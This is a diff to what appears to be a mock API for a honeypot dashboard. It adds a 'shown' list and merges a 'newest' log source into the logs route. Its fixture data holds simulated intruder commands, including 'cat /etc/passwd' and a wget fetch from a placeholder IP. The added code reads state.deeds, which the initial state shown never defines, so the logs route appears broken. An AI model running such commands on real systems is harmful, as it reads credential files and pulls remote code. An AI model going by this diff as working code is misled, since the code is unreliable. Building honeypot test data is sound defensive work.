@@ -21,6 +21,7 @@ const typed = ['id', 'uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.
 export const initial = (scenario, now) => ({
   deckySessions: scenario === 'full' ? Array.from({ length: 500 }, (_, i) => session(500 - i, now)) : [],
   looks: [],
+  shown: [], // sessions that were asked for
 });
 
 function session(n, now) {
@@ -136,15 +137,22 @@ const matching = (q) => (r) =>
 
 const ofSession = (state, q) => state.deckySessions.filter((s) => !q.get('session') || s.id === q.get('session'));
 
+const newest = (state, q) => state.deeds.filter((l) => !q.get('session') || l.session === q.get('session'));
+
 export const routes = {
   'GET sessions': ({ state, res, q }) => json(res, 200, page(state.deckySessions.filter(matching(q)), q)),
   'GET sessions/:id': ({ state, res, id }) => {
+    state.shown.push(id);
     const s = state.deckySessions.find((x) => x.id === id);
     if (s === undefined) return problem(res, 404, 'Not Found', `session ${id}: it is not on record`);
     json(res, 200, s);
   },
   'GET logs': ({ state, res, q }) =>
-    json(res, 200, page(ofSession(state, q).slice(0, 40).flatMap(logs).filter(matching(q)), q)),
+    json(
+      res,
+      200,
+      page([...newest(state, q), ...ofSession(state, q).slice(0, 40).flatMap(logs)].filter(matching(q)), q),
+    ),
   'GET transcripts/:id/:sub': transcript,
   'GET artifacts': ({ state, res, q }) =>
     json(res, 200, page(ofSession(state, q).flatMap(artifacts).filter(matching(q)), q)),
